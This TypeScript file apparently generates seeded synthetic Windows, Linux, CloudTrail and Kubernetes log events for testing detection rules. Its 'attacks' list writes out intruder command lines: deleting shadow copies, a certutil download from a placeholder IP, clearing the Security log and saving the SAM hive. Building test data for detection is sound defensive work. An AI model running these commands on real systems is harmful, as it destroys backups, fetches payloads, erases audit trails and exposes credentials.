// Made-up events as rules name them: flat, System and EventData keys side by side for Windows, the vendor's own shape for
// CloudTrail and Kubernetes. Every engine can read these without a mapping of fields. The same seed gives the same events.

type Flat = Record<string, unknown>
type Random = () => number

/** mulberry32 */
function randomOf(seed: number): Random {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

const pick = <T>(random: Random, list: readonly T[]): T => list[Math.floor(random() * list.length)] as T
const hex = (random: Random, length: number) =>
  Array.from({ length }, () => Math.floor(random() * 16).toString(16)).join('')
const number = (random: Random, below: number) => Math.floor(random() * below)
const address = (random: Random) => `10.${number(random, 4)}.${number(random, 256)}.${number(random, 256)}`

const hosts = ['FIN-PC-011', 'FIN-PC-012', 'DEV-PC-107', 'SRV-APP-02', 'SRV-DC-01', 'SRV-SQL-03']
const users = ['CORP\\hana', 'CORP\\joon', 'CORP\\svc-report', 'NT AUTHORITY\\SYSTEM', 'CORP\\minseo']
/** Program, parent, arguments, company. */
const programs = [
  [
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\System32\\services.exe',
    '-k LocalService -p',
    'Microsoft Corporation',
  ],
  [
    'C:\\Windows\\System32\\RuntimeBroker.exe',
    'C:\\Windows\\System32\\svchost.exe',
    '-Embedding',
    'Microsoft Corporation',
  ],
  [
    'C:\\Windows\\System32\\conhost.exe',
    'C:\\Program Files\\Agent\\agentd.exe',
    '0xffffffff -ForceV1',
    'Microsoft Corporation',
  ],
  [
    'C:\\Program Files\\Agent\\agentd.exe',
    'C:\\Windows\\System32\\services.exe',
    '--config C:\\ProgramData\\Agent\\agent.yml',
    'Agent GmbH',
  ],
  ['C:\\Program Files\\Mail\\mail.exe', 'C:\\Windows\\explorer.exe', '/recycle', 'Mail Inc'],
  [
    'C:\\Program Files (x86)\\Web\\web.exe',
    'C:\\Program Files (x86)\\Web\\web.exe',
    '--type=utility --lang=ko --field-trial=1841',
    'Web LLC',
  ],
  ['C:\\Users\\joon\\AppData\\Local\\Chat\\chat.exe', 'C:\\Windows\\explorer.exe', '--squirrel-firstrun', 'Chat Oy'],
  [
    'C:\\build\\jdk\\bin\\java.exe',
    'C:\\build\\agent\\runner.exe',
    '-Xmx512m -jar app.jar --spring.profiles.active=ci',
    'JDK',
  ],
] as const
/** What an intruder would type: one event in a thousand has such a line. */
const attacks = [
  ['C:\\Windows\\System32\\vssadmin.exe', 'C:\\Windows\\System32\\cmd.exe', 'vssadmin.exe delete shadows /all /quiet'],
  [
    'C:\\Windows\\System32\\certutil.exe',
    'C:\\Windows\\System32\\cmd.exe',
    'certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe',
  ],
  ['C:\\Windows\\System32\\whoami.exe', 'C:\\Windows\\System32\\cmd.exe', 'whoami /all'],
  ['C:\\Windows\\System32\\wevtutil.exe', 'C:\\Windows\\System32\\cmd.exe', 'wevtutil cl Security'],
  ['C:\\Windows\\System32\\reg.exe', 'C:\\Windows\\System32\\cmd.exe', 'reg save HKLM\\SAM C:\\Temp\\sam.hiv'],
] as const

const sysmon = (random: Random, n: number, id: number, data: Flat): Flat => ({
  '@timestamp': new Date(Date.UTC(2026, 2, 2) + n * 250).toISOString(),
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  Provider_Name: 'Microsoft-Windows-Sysmon',
  EventID: id,
  Computer: `${pick(random, hosts)}.corp.example`,
  Level: 4,
  EventRecordID: 100_000 + n,
  ProcessGuid: `{${hex(random, 8)}-${hex(random, 4)}-${hex(random, 4)}-0100-00000000${hex(random, 4)}}`,
  ProcessId: number(random, 20_000),
  User: pick(random, users),
  ...data,
})

type Make = (random: Random, n: number) => Flat

const processCreation: Make = (random, n) => {
  const [image, parent, line, company] =
    random() < 0.001 ? ([...pick(random, attacks), 'Microsoft Corporation'] as const) : pick(random, programs)
  const name = image.slice(image.lastIndexOf('\\') + 1)
  return sysmon(random, n, 1, {
    Image: image,
    OriginalFileName: name,
    Company: company,
    Product: company,
    Description: name,
    FileVersion: `10.0.${number(random, 30_000)}.1`,
    CommandLine: line.includes(name.slice(0, -4)) ? line : `"${image}" ${line} ${hex(random, 8)}`,
    CurrentDirectory: 'C:\\Windows\\system32\\',
    IntegrityLevel: pick(random, ['Medium', 'High', 'System']),
    Hashes: `MD5=${hex(random, 32)},SHA256=${hex(random, 64)},IMPHASH=${hex(random, 32)}`,
    LogonId: `0x${hex(random, 6)}`,
    ParentImage: parent,
    ParentCommandLine: `"${parent}"`,
  })
}

const networkConnection: Make = (random, n) =>
  sysmon(random, n, 3, {
    Image: pick(random, programs)[0],
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIp: address(random),
    SourcePort: 49_152 + number(random, 16_000),
    DestinationIp: address(random),
    DestinationHostname: `node-${number(random, 90)}.corp.example`,
    DestinationPort: pick(random, [443, 80, 53, 8443, 445]),
  })

const imageLoad: Make = (random, n) => {
  const dll = pick(random, ['ntdll', 'kernel32', 'combase', 'ucrtbase', 'sechost', 'bcryptprimitives'])
  return sysmon(random, n, 7, {
    Image: pick(random, programs)[0],
    ImageLoaded: `C:\\Windows\\System32\\${dll}.dll`,
    OriginalFileName: `${dll}.dll`,
    Hashes: `SHA256=${hex(random, 64)}`,
    Signed: 'true',
    Signature: 'Microsoft Windows',
    SignatureStatus: 'Valid',
  })
}

const fileEvent: Make = (random, n) =>
  sysmon(random, n, 11, {
    Image: pick(random, programs)[0],
    TargetFilename: `C:\\Users\\${pick(random, ['hana', 'joon'])}\\AppData\\Local\\Cache\\${hex(random, 10)}.dat`,
    CreationUtcTime: '2026-03-02 01:00:00.000',
  })

const registrySet: Make = (random, n) =>
  sysmon(random, n, 13, {
    EventType: 'SetValue',
    Image: pick(random, programs)[0],
    TargetObject: `HKU\\S-1-5-21-${number(random, 1e9)}\\Software\\Agent\\State\\${hex(random, 6)}`,
    Details: `DWORD (0x0000${hex(random, 4)})`,
  })

const dnsQuery: Make = (random, n) =>
  sysmon(random, n, 22, {
    Image: pick(random, programs)[0],
    QueryName: `${pick(random, ['mail', 'intranet', 'static', 'update', 'api'])}.corp.example`,
    QueryStatus: '0',
    QueryResults: `::ffff:${address(random)};`,
  })

const security: Make = (random, n) => ({
  '@timestamp': new Date(Date.UTC(2026, 2, 2) + n * 250).toISOString(),
  Channel: 'Security',
  Provider_Name: 'Microsoft-Windows-Security-Auditing',
  EventID: pick(random, [4624, 4634, 4672, 4776, 5156, 4768]),
  Computer: `${pick(random, hosts)}.corp.example`,
  TargetUserName: pick(random, users).split('\\')[1] as string,
  TargetDomainName: 'CORP',
  SubjectUserName: `${pick(random, hosts)}$`,
  SubjectLogonId: `0x${hex(random, 6)}`,
  LogonType: pick(random, [2, 3, 5, 7]),
  IpAddress: address(random),
  IpPort: number(random, 60_000),
  WorkstationName: pick(random, hosts),
  LogonProcessName: 'Kerberos',
  AuthenticationPackageName: 'Kerberos',
})

const scriptBlock: Make = (random, n) => ({
  '@timestamp': new Date(Date.UTC(2026, 2, 2) + n * 250).toISOString(),
  Channel: 'Microsoft-Windows-PowerShell/Operational',
  Provider_Name: 'Microsoft-Windows-PowerShell',
  EventID: 4104,
  Computer: `${pick(random, hosts)}.corp.example`,
  ScriptBlockId: hex(random, 32),
  ScriptBlockText: pick(random, [
    `$report = Get-ChildItem D:\\reports -Filter *.csv | Sort-Object Length; $report.Count # ${hex(random, 8)}`,
    `function Send-Status { param($Name) Write-Output "status of $Name at $(Get-Date)" } Send-Status ${hex(random, 6)}`,
    `Import-Module .\\inventory.psm1; Update-Inventory -Site seoul -Batch ${number(random, 999)}`,
  ]),
})

const linuxProcess: Make = (random, n) => {
  const line = pick(random, [
    '/usr/bin/rsync -a /srv/data/ /mnt/copy/',
    'ps -ef',
    'node worker.js',
    'cat /proc/loadavg',
    'sleep 5',
  ])
  const [program = ''] = line.split(' ')
  return {
    '@timestamp': new Date(Date.UTC(2026, 2, 2) + n * 250).toISOString(),
    Channel: 'Linux-Sysmon/Operational',
    Provider_Name: 'Linux-Sysmon',
    EventID: 1,
    Computer: `lx-${number(random, 30)}`,
    Image: program.startsWith('/') ? program : `/usr/bin/${program}`,
    CommandLine: line,
    CurrentDirectory: '/srv',
    User: pick(random, ['root', 'app', 'deploy']),
    ParentImage: '/usr/bin/bash',
    ParentCommandLine: 'bash -c start',
    ProcessId: number(random, 30_000),
  }
}

const cloudTrail: Make = (random, n) => ({
  eventTime: new Date(Date.UTC(2026, 2, 2) + n * 250).toISOString(),
  eventSource: pick(random, ['s3.amazonaws.com', 'ec2.amazonaws.com', 'sts.amazonaws.com']),
  eventName: pick(random, ['GetObject', 'DescribeVolumes', 'AssumeRole', 'ListKeys', 'PutObject']),
  awsRegion: 'ap-northeast-2',
  sourceIPAddress: address(random),
  userAgent: 'aws-sdk-go/1.55',
  userIdentity: { type: 'AssumedRole', arn: `arn:aws:sts::111122223333:assumed-role/app/${hex(random, 8)}` },
  requestParameters: { bucketName: `data-${number(random, 20)}`, key: hex(random, 12) },
  eventID: hex(random, 32),
})

const kubernetes: Make = (random, n) => ({
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  auditID: hex(random, 32),
  stage: 'ResponseComplete',
  requestReceivedTimestamp: new Date(Date.UTC(2026, 2, 2) + n * 250).toISOString(),
  verb: pick(random, ['get', 'list', 'watch', 'update', 'patch']),
  requestURI: '/api/v1/namespaces/shop/endpoints',
  user: { username: 'system:serviceaccount:shop:web', groups: ['system:serviceaccounts', 'system:authenticated'] },
  sourceIPs: [address(random)],
  userAgent: 'web/v1.4 (linux/amd64)',
  objectRef: { resource: pick(random, ['endpoints', 'leases', 'configmaps']), namespace: 'shop', name: hex(random, 6) },
  responseStatus: { code: 200 },
})

const kinds: readonly Make[] = [
  ...[processCreation, processCreation, processCreation, processCreation],
  ...[networkConnection, networkConnection, imageLoad, imageLoad, fileEvent, fileEvent, registrySet, registrySet],
  ...[dnsQuery, security, security, security, scriptBlock, linuxProcess, cloudTrail, kubernetes],
]

export function ruleEvents(count: number, seed: number): Flat[] {
  const random = randomOf(seed)
  return Array.from({ length: count }, (_, n) => pick(random, kinds)(random, n))
}
